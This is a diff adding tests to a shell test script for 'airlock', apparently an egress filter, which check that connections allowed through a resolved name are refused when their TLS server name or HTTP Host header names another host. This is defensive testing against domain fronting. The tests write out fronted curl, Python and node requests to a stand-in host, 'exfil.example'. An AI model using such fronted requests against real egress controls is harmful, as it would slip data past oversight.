@@ -4,7 +4,9 @@
 # "localhost", or a name it resolved) and no other: a connection elsewhere
 # fails at connect() with EACCES before any byte leaves, in curl, Python and
 # node, with one stderr line and one audit line; monitor mode and a broken
-# list behave as the rest of airlock.
+# list behave as the rest of airlock.  An address allowed only through a
+# resolved name is held to that name at the connection's first bytes (TLS
+# server name, HTTP Host).
 . "$(dirname "$0")/lib.sh"
 
 T=$(mktemp -d)
@@ -111,6 +113,108 @@ else
     ok "host name does not resolve here: name check covered by the unit tests"
 fi
 
+# by name, at the first bytes: an address allowed only because an allowed
+# name resolved to it admits that name, not another one served from the same
+# address (a CDN, domain fronting).  The TLS server name (SNI) or HTTP Host
+# the program writes must be on the list too.  Needs a name other than
+# "localhost" (an address entry) that resolves to the mock's loopback address.
+LN=
+for n in "$HN" runsc; do
+    case "$(getent ahostsv4 "$n" 2> /dev/null | awk 'NR==1{print $1}')" in 127.*) LN=$n; break ;; esac
+done
+if [ -n "$LN" ]; then
+    FRONT=exfil.example
+    sni_curl() { # sni_curl NAME URL-HOST [curl args]: TLS call through $LN's address
+        name=$1 host=$2
+        shift 2
+        env LD_PRELOAD="$SHIM" AIRLOCK_AUDIT="$T/$name.audit" AIRLOCK_EGRESS="${LIST:-$LN}" $ENVX \
+            curl -sS -k --max-time 10 --connect-to "$host::$LN:" -H 'content-type: application/json' \
+            -d "$BODY" "$@" "https://$host:$TLS_PORT/v1/chat/completions" > "$T/$name.out" 2> "$T/$name.err"
+        echo $? > "$T/$name.rc"
+    }
+    sni_curl sni_ok "$LN"
+    [ "$(cat "$T/sni_ok.rc")" = 0 ] && grep -q '"choices"' "$T/sni_ok.out" && ! grep -q '"event":"egress"' "$T/sni_ok.audit" &&
+        ok "curl reaches a listed name whose address it resolved (SNI on the list)" ||
+        fail "sni ok" "rc $(cat "$T/sni_ok.rc"): $(cat "$T/sni_ok.err")"
+    mid=$(mock_requests)
+    sni_curl sni_front "$FRONT"
+    [ "$(cat "$T/sni_front.rc")" = 35 ] && [ "$(mock_requests)" = "$mid" ] &&
+        ok "curl to another name on that address fails at the handshake and sends nothing" ||
+        fail "sni front" "rc $(cat "$T/sni_front.rc"): $(cat "$T/sni_front.err")"
+    grep -q "airlock: refused a TLS connection to $FRONT (127.0.0.1) port $TLS_PORT: its server name (SNI) is not in AIRLOCK_EGRESS (the address was allowed for $LN)" "$T/sni_front.err" &&
+        ok "stderr names the unlisted server name and the name the address was allowed for" ||
+        fail "sni stderr" "$(cat "$T/sni_front.err")"
+    grep -q '"event":"egress","host":"'$FRONT'","addr":"127.0.0.1","port":'"$TLS_PORT"',"verdict":"refused","mode":"enforce","check":"tls_sni","allowed_as":"'$LN'"' "$T/sni_front.audit" &&
+        ok "the audit log records the refused server name" || fail "sni audit" "$(cat "$T/sni_front.audit" 2>&1)"
+    ENVX=AIRLOCK_MODE=monitor sni_curl sni_mon "$FRONT"
+    [ "$(cat "$T/sni_mon.rc")" = 0 ] && grep -q "would refuse (monitor mode) a TLS connection to $FRONT" "$T/sni_mon.err" &&
+        grep -q '"host":"'$FRONT'".*"verdict":"unverified","mode":"monitor","check":"tls_sni"' "$T/sni_mon.audit" &&
+        ok "monitor mode lets an unlisted server name through and records it" || fail "sni monitor" "$(cat "$T/sni_mon.err")"
+    LIST="$LN,127.0.0.0/8" sni_curl sni_cidr "$FRONT"
+    [ "$(cat "$T/sni_cidr.rc")" = 0 ] && ok "an address listed itself (IP, CIDR) is not held to a name" ||
+        fail "sni cidr" "$(cat "$T/sni_cidr.err")"
+    env LD_PRELOAD="$SHIM" curl -sS -k --max-time 10 --connect-to "$FRONT::$LN:" -d "$BODY" \
+        -H 'content-type: application/json' "https://$FRONT:$TLS_PORT/v1/chat/completions" > /dev/null 2>&1 &&
+        ok "without AIRLOCK_EGRESS no name is checked" || fail "sni unset" "curl failed"
+    # an IP-literal URL sends no SNI: it cannot be held to a name, AIRLOCK_FAIL decides
+    sni_curl sni_none 127.0.0.1
+    [ "$(cat "$T/sni_none.rc")" = 35 ] && grep -q "refused a TLS connection to 127.0.0.1 port $TLS_PORT: it sends no server name (SNI)" "$T/sni_none.err" &&
+        grep -q '"host":null,.*"verdict":"refused".*"check":"tls_sni"' "$T/sni_none.audit" &&
+        ok "TLS without a server name on an address allowed by name is refused (AIRLOCK_FAIL=closed)" ||
+        fail "sni none" "rc $(cat "$T/sni_none.rc"): $(cat "$T/sni_none.err")"
+    ENVX=AIRLOCK_FAIL=open sni_curl sni_none_open 127.0.0.1
+    [ "$(cat "$T/sni_none_open.rc")" = 0 ] && grep -q '"verdict":"unverified","mode":"enforce","check":"tls_sni"' "$T/sni_none_open.audit" &&
+        ok "AIRLOCK_FAIL=open lets TLS without a server name through, recorded" ||
+        fail "sni none open" "rc $(cat "$T/sni_none_open.rc"): $(cat "$T/sni_none_open.err")"
+
+    # plain HTTP: the Host header
+    host_curl() { # host_curl NAME [curl args]
+        name=$1
+        shift
+        env LD_PRELOAD="$SHIM" AIRLOCK_AUDIT="$T/$name.audit" AIRLOCK_EGRESS="$LN" curl -sS --max-time 10 \
+            -H 'content-type: application/json' -d "$BODY" "$@" "http://$LN:$HTTP_PORT/v1/chat/completions" \
+            > "$T/$name.out" 2> "$T/$name.err"
+        echo $? > "$T/$name.rc"
+    }
+    host_curl host_ok
+    [ "$(cat "$T/host_ok.rc")" = 0 ] && grep -q '"choices"' "$T/host_ok.out" &&
+        ok "plain HTTP to a listed name works" || fail "host ok" "$(cat "$T/host_ok.err")"
+    mid=$(mock_requests)
+    host_curl host_front -H "Host: $FRONT"
+    [ "$(cat "$T/host_front.rc")" = 55 ] && [ "$(mock_requests)" = "$mid" ] &&
+        grep -q "airlock: refused an HTTP request to $FRONT (127.0.0.1) port $HTTP_PORT: its Host is not in AIRLOCK_EGRESS (the address was allowed for $LN)" "$T/host_front.err" &&
+        grep -q '"host":"'$FRONT'".*"verdict":"refused","mode":"enforce","check":"http_host"' "$T/host_front.audit" &&
+        ok "plain HTTP with another name in Host is refused before it is sent, with stderr and audit lines" ||
+        fail "host front" "rc $(cat "$T/host_front.rc"): $(cat "$T/host_front.err")"
+
+    # Python (OpenSSL through the ssl module): the name it hands to wrap_socket
+    cat > "$T/sni.py" <<'EOF'
+import socket, ssl, sys
+name, port, sni = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+ip = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
+ctx = ssl.create_default_context()
+ctx.check_hostname = False
+ctx.verify_mode = ssl.CERT_NONE
+try:
+    s = ctx.wrap_socket(socket.create_connection((ip, port), timeout=5), server_hostname=sni)
+    s.sendall(b"GET /v1/models HTTP/1.1\r\nHost: " + sni.encode() + b"\r\nConnection: close\r\n\r\n")
+    print(s.recv(12).decode())
+except OSError as e:
+    print(type(e).__name__, e.errno)
+EOF
+    env LD_PRELOAD="$SHIM" AIRLOCK_EGRESS="$LN" $PY "$T/sni.py" "$LN" "$TLS_PORT" "$LN" > "$T/pysni_ok.out" 2> "$T/pysni_ok.err"
+    grep -qx 'HTTP/1.1 200' "$T/pysni_ok.out" && ok "Python reaches a listed name (server_hostname on the list)" ||
+        fail "python sni ok" "$(cat "$T/pysni_ok.out" "$T/pysni_ok.err")"
+    env LD_PRELOAD="$SHIM" AIRLOCK_EGRESS="$LN" AIRLOCK_AUDIT="$T/pysni.audit" $PY "$T/sni.py" "$LN" "$TLS_PORT" "$FRONT" \
+        > "$T/pysni.out" 2> "$T/pysni.err"
+    grep -qx 'ConnectionRefusedError 111' "$T/pysni.out" && grep -q "refused a TLS connection to $FRONT" "$T/pysni.err" &&
+        grep -q '"host":"'$FRONT'".*"verdict":"refused".*"check":"tls_sni"' "$T/pysni.audit" &&
+        ok "Python with another server_hostname on the same socket address is refused (ConnectionRefusedError)" ||
+        fail "python sni" "$(cat "$T/pysni.out" "$T/pysni.err")"
+else
+    ok "no name but localhost resolves to a loopback address here: name check covered by the unit tests"
+fi
+
 # node (libuv): connect refused, the program gets an error, not a hang
 NODE=$(command -v node || command -v nodejs)
 if [ -n "$NODE" ]; then
@@ -121,6 +225,18 @@ req.on('error', e => console.log('error', e.code));
 req.end('$BODY');" > "$T/node.out" 2> /dev/null
     grep -qx 'error EACCES' "$T/node.out" && ok "node gets EACCES for a host that is not on the list" ||
         fail "node" "$(cat "$T/node.out")"
+    if [ -n "$LN" ]; then # node's own TLS: the servername it sends
+        for sn in "$LN" exfil.example; do
+            env LD_PRELOAD="$SHIM" AIRLOCK_EGRESS="$LN" timeout 20 "$NODE" -e "
+const r = require('https').request({host: '$LN', port: $TLS_PORT, path: '/v1/models', servername: '$sn', rejectUnauthorized: false},
+    res => { console.log('status', res.statusCode); res.resume(); });
+r.on('error', e => console.log('error', e.code)); r.end();" > "$T/node-$sn.out" 2> "$T/node-$sn.err"
+        done
+        grep -qx 'status 200' "$T/node-$LN.out" && grep -qx 'error ECONNREFUSED' "$T/node-exfil.example.out" &&
+            grep -q 'refused a TLS connection to exfil.example' "$T/node-exfil.example.err" &&
+            ok "node reaches the listed server name and is refused another one on the same address" ||
+            fail "node sni" "$(cat "$T/node-$LN.out" "$T/node-exfil.example.out" "$T/node-exfil.example.err")"
+    fi
 else
     fail "node" "node is not installed (tools/deps.sh installs nodejs)"
 fi
